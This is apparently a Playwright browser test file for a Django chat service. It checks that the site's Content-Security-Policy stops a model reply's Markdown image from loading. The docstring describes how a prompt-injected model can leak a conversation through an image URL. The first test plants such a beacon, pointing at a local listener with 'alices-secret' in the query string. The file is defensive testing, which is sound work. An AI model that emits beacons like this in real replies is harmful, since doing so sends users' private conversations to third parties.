"""In real Chromium: the Content-Security-Policy keeps a model's Markdown image from beaconing out.

A reply containing ![](http://127.0.0.1:<other port>/track.png?c=...) made the chat page fetch it,
which is how a prompt-injected model leaks a conversation. A listener on that other loopback port
proves nothing is fetched: the browser refuses it (and says so on the console) under img-src.
"""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, ConsoleMessage, expect

from accounts.models import User
from catalogue.models import LanguageModel, Provider
from tests.browser import log_in
from tests.fake_upstream import FakeUpstream, Reply
from tests.live_server import LiveServer

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.timeout(120)]


class Listener:
    """Another service on the same host: records every request it gets."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.stop()


@pytest.fixture
def model(fake_upstream: FakeUpstream, transactional_db: None) -> LanguageModel:
    provider = Provider.objects.create(name="fake", base_url=fake_upstream.base_url, read_timeout=10)
    return LanguageModel.objects.create(public_id="fake/small", provider=provider, upstream_model="fake-small")


def test_a_remote_image_in_a_reply_is_never_fetched(
    chromium_browser: Browser,
    live_server: LiveServer,
    alice: User,
    model: LanguageModel,
    fake_upstream: FakeUpstream,
    listener: Listener,
) -> None:
    beacon = f"http://127.0.0.1:{listener.port}/track.png?c=alices-secret"
    fake_upstream.queue(Reply(content=f"Sure. ![chart]({beacon}) Here it is.", chunks=3))
    context = chromium_browser.new_context(base_url=live_server.url)
    context.set_default_timeout(15_000)
    try:
        page = context.new_page()
        log_in(page)

        def refused(message: ConsoleMessage) -> bool:
            return "Content Security Policy" in message.text and str(listener.port) in message.text

        with page.expect_console_message(predicate=refused):
            box = page.get_by_role("textbox", name="Message")
            box.fill("Draw me a chart")
            box.press("Enter")
            reply = page.locator('[data-role="assistant"]').last
            expect(reply).to_have_attribute("data-status", "complete")
            expect(reply.locator("img")).to_have_count(1)  # the image is in the page, not loaded
    finally:
        context.close()
    assert listener.paths == []


def test_the_pages_run_under_the_policy_without_a_violation(
    chromium_browser: Browser, live_server: LiveServer, admin: User, model: LanguageModel, fake_upstream: FakeUpstream
) -> None:
    context = chromium_browser.new_context(base_url=live_server.url)
    context.set_default_timeout(15_000)
    violations: list[str] = []
    errors: list[str] = []
    try:
        page = context.new_page()
        page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        log_in(page, "admin")
        box = page.get_by_role("textbox", name="Message")
        box.fill("Hello")
        box.press("Enter")
        expect(page.locator('[data-role="assistant"]').last).to_have_attribute("data-status", "complete")
        page.goto("/accounts/profile/")
        page.get_by_label("Name").fill("laptop")
        page.get_by_role("button", name=re.compile("create", re.I)).click()
        expect(page.get_by_text(re.compile(r"sk-[A-Za-z0-9_-]{43}")).first).to_be_visible()
        for path in (
            "/admin/",
            "/admin/accounts/user/",
            "/admin/catalogue/provider/",
            "/admin/usage/usagerecord/overview/",
        ):
            page.goto(path)
            expect(page.locator("#content")).to_be_visible()
        page.goto(f"/admin/catalogue/provider/{model.provider_id}/change/")
        expect(page.get_by_label("Base url")).to_be_visible()
    finally:
        context.close()
    assert violations == [] and errors == []
